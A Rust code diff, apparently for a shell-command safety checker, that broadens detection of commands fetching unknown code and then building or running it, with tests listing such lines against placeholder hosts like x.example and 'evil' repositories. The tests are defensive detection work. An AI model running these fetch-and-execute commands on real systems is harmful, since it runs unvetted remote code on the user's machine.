@@ -851,7 +851,12 @@ pub(super) fn runs_download_later(parts: &[SimpleCommand]) -> bool {
     for part in parts {
         // `./x`: views hold the command word's basename, the part as written.
         let by_path = part.program().is_some_and(|w| w.contains('/'));
-        if unknown_names && (by_path || views(part).iter().any(|v| runs_a_local_file(v))) {
+        if unknown_names
+            && (by_path
+                || views(part)
+                    .iter()
+                    .any(|v| runs_a_local_file(v) || builds_a_project(v)))
+        {
             return true;
         }
         if views(part).iter().any(|v| runs_a_remote_package(v)) {
@@ -918,7 +923,22 @@ fn fetches_unknown_names(view: &[String]) -> bool {
         "aria2c" | "lynx" | "links" | "fetch" => true,
         "http" | "https" | "xh" | "xhs" => has(&["-d", "--download"]),
         // The subcommand is one of the words: read git's options only then.
-        "git" => view.iter().any(|w| w == "clone") && invocation(view).subcommand == Some("clone"),
+        "git" if view.iter().any(|w| w == "clone" || w == "submodule") => {
+            let inv = invocation(view);
+            match inv.subcommand {
+                Some("clone") => true,
+                Some("submodule") => inv.operands.get(1) == Some(&"add"),
+                _ => false,
+            }
+        }
+        "gh" if view.iter().any(|w| w == "clone" || w == "download") => {
+            let inv = invocation(view);
+            matches!(
+                (inv.subcommand, inv.operands.get(1).copied()),
+                (Some("repo" | "gist"), Some("clone"))
+                    | (Some("release" | "run"), Some("download"))
+            )
+        }
         "scp" | "rsync" => {
             let ops = invocation(view).operands;
             let remote = |w: &str| {
@@ -929,6 +949,57 @@ fn fetches_unknown_names(view: &[String]) -> bool {
         }
         _ => false,
     }
+}
+
+/// Builds and installs that run a project's own code (build scripts,
+/// lifecycle scripts, makefiles): programs, and the subcommands that do
+/// (empty: any). After a fetch of unknown files, the fetched project's
+/// code runs (`git clone URL r && cd r && npm install`).
+const PROJECT_BUILDS: &[(&[&str], &[&str])] = &[
+    (
+        &["npm", "pnpm", "yarn", "bun"],
+        &[
+            "install",
+            "i",
+            "ci",
+            "add",
+            "run",
+            "run-script",
+            "test",
+            "t",
+            "start",
+            "exec",
+        ],
+    ),
+    (
+        &["cargo"],
+        &[
+            "build", "b", "run", "r", "test", "t", "check", "c", "bench", "install",
+        ],
+    ),
+    (&["go"], &["build", "run", "test", "generate", "install"]),
+    (&["pip", "pip3"], &["install"]),
+    (
+        &[
+            "make", "gmake", "just", "ninja", "cmake", "meson", "mvn", "gradle", "ant", "bazel",
+            "scons", "rake",
+        ],
+        &[],
+    ),
+];
+
+/// Whether `view` builds or installs a project ([`PROJECT_BUILDS`]).
+fn builds_a_project(view: &[String]) -> bool {
+    let name = program(view);
+    PROJECT_BUILDS.iter().any(|(programs, subcommands)| {
+        programs.contains(&name)
+            && (subcommands.is_empty()
+                || view
+                    .iter()
+                    .skip(1)
+                    .find(|w| !w.starts_with('-'))
+                    .is_some_and(|w| subcommands.contains(&w.as_str())))
+    })
 }
 
 /// Unpacking an archive: its files' names are not on the line.
@@ -978,46 +1049,105 @@ fn runs_a_local_file(view: &[String]) -> bool {
 /// github.com/x/y@latest`, `uv run https://…/a.py`, `npx github:x/y`,
 /// `pipx run --spec git+https://…`). Each row: programs, the subcommand
 /// (empty: none) and whether a module path with a version counts (`go`).
-const REMOTE_PACKAGE_RUNNERS: &[(&[&str], &str, bool)] = &[
-    (&["go"], "run", true),
-    (&["uv", "uvx"], "run", false),
-    (&["uvx"], "", false),
-    (&["npx", "bunx", "pnpx"], "", false),
-    (&["pnpm", "yarn", "bun"], "dlx", false),
-    (&["npm"], "exec", false),
-    (&["pipx"], "run", false),
-    (&["deno"], "run", false),
+const REMOTE_PACKAGE_RUNNERS: &[RemoteRunner] = &[
+    remote(&["go"], &["run", "install"], true, false),
+    remote(&["uv"], &["run", "tool", "pip", "add"], false, false),
+    remote(&["uvx"], &[], false, false),
+    remote(&["npx", "bunx", "pnpx"], &[], false, true),
+    remote(
+        &["pnpm", "yarn", "bun"],
+        &["dlx", "add", "install", "i", "x"],
+        false,
+        true,
+    ),
+    remote(&["bun", "deno"], &["run", "install"], false, false),
+    remote(&["npm"], &["exec", "x", "install", "i", "add"], false, true),
+    remote(&["pipx"], &["run", "install"], false, false),
+    remote(&["pip", "pip3"], &["install"], false, false),
+    remote(&["poetry"], &["add"], false, false),
+    remote(&["gem"], &["install"], false, false),
+    remote(&["cargo"], &["install"], false, false),
+    remote(
+        &["nix"],
+        &["run", "shell", "develop", "build"],
+        false,
+        false,
+    ),
 ];
 
+/// One row of [`REMOTE_PACKAGE_RUNNERS`]: programs, the subcommands that
+/// fetch and run or install (empty: the program itself), whether a module
+/// path with a version counts (`go run host/x@v`), and whether npm's
+/// `user/repo` shorthand for a GitHub repository does (`npx x/y`).
+#[derive(Debug, Clone, Copy)]
+struct RemoteRunner {
+    programs: &'static [&'static str],
+    subcommands: &'static [&'static str],
+    module_path: bool,
+    shorthand: bool,
+}
+
+const fn remote(
+    programs: &'static [&'static str],
+    subcommands: &'static [&'static str],
+    module_path: bool,
+    shorthand: bool,
+) -> RemoteRunner {
+    RemoteRunner {
+        programs,
+        subcommands,
+        module_path,
+        shorthand,
+    }
+}
+
 /// What marks a package given by location rather than by name.
-const REMOTE_SPEC_MARKERS: &[&str] = &["://", "git+", "github:", "gitlab:", "bitbucket:", "gist:"];
+const REMOTE_SPEC_MARKERS: &[&str] = &[
+    "://",
+    "git+",
+    "git@",
+    "github:",
+    "gitlab:",
+    "bitbucket:",
+    "gist:",
+];
+
+/// npm's GitHub shorthand: `user/repo` (not a scope, a path or a URL).
+fn github_shorthand(word: &str) -> bool {
+    !word.starts_with(['-', '@', '.', '/', '~', '$'])
+        && !word.contains(':')
+        && word
+            .split_once('/')
+            .is_some_and(|(user, repo)| !user.is_empty() && !repo.is_empty() && !repo.contains('/'))
+}
 
 /// Whether `view` runs a package fetched from a URL or a repository.
 fn runs_a_remote_package(view: &[String]) -> bool {
     let name = program(view);
-    REMOTE_PACKAGE_RUNNERS
-        .iter()
-        .any(|(programs, sub, module_path)| {
-            if !programs.contains(&name) {
-                return false;
-            }
-            let args = view.get(1..).unwrap_or_default();
-            let rest = if sub.is_empty() {
-                args
-            } else {
-                match args.iter().position(|w| !w.starts_with('-')) {
-                    Some(at) if args[at] == *sub => args.get(at + 1..).unwrap_or_default(),
-                    _ => return false,
+    REMOTE_PACKAGE_RUNNERS.iter().any(|row| {
+        if !row.programs.contains(&name) {
+            return false;
+        }
+        let args = view.get(1..).unwrap_or_default();
+        let rest = if row.subcommands.is_empty() {
+            args
+        } else {
+            match args.iter().position(|w| !w.starts_with('-')) {
+                Some(at) if row.subcommands.contains(&args[at].as_str()) => {
+                    args.get(at + 1..).unwrap_or_default()
                 }
-            };
-            rest.iter().any(|w| {
-                let value = w.split_once('=').map_or(w.as_str(), |(_, v)| v);
-                REMOTE_SPEC_MARKERS.iter().any(|m| value.contains(m))
-                    || (*module_path
-                        && w.contains('@')
-                        && w.split('/').next().is_some_and(|host| host.contains('.')))
-            })
+                _ => return false,
+            }
+        };
+        rest.iter().any(|w| {
+            let value = w.split_once('=').map_or(w.as_str(), |(_, v)| v);
+            REMOTE_SPEC_MARKERS.iter().any(|m| value.contains(m))
+                || (row.module_path
+                    && w.contains('@')
+                    && w.split('/').next().is_some_and(|host| host.contains('.')))
+                || (row.shorthand && github_shorthand(w))
         })
+    })
 }
 
 /// Checks every row's examples and controls; the message names the row
@@ -1068,13 +1198,34 @@ mod tests {
             "npx github:evil/x",
             "pipx run --spec git+https://x.example/evil.git evil",
             "pnpm dlx https://x.example/x.tgz",
+            "git clone https://x.example/r.git && cd r && cargo build",
+            "git clone https://x.example/r.git d && cd d && npm install",
+            "gh repo clone x/y && ./y/install.sh",
+            "gh release download -R x/y -p tool -D bin && ./bin/tool",
+            "git submodule add https://x.example/m.git m && ./m/run.sh",
+            "npx x/y",
+            "npm i x/y",
+            "pip install git+https://x.example/evil.git",
+            "pip install -i https://x.example/simple requests",
+            "yarn add github:x/y",
+            "go install x.example/y@latest",
+            "cargo install --git https://x.example/y.git",
+            "nix run github:x/y",
+            "bun run https://x.example/s.ts",
+            "npx git@github.com:x/y.git",
         ] {
             assert!(runs(line), "{line}");
         }
         for line in [
             "wget -O data.csv https://x.example/d.csv && python3 analyze.py",
-            "git clone https://x.example/r.git && cd r && cargo build",
             "curl -fsSL https://x.example/a.json -o a.json && jq . a.json",
+            "npm install @types/node lodash",
+            "npm install ./packages/ui",
+            "bun run scripts/build.ts",
+            "pip install -r requirements.txt",
+            "cargo install ripgrep",
+            "go install ./cmd/tool",
+            "git pull && cargo build",
             "tar xzf vendor.tgz && ./configure",
             "go run ./cmd/tool",
             "go run .",
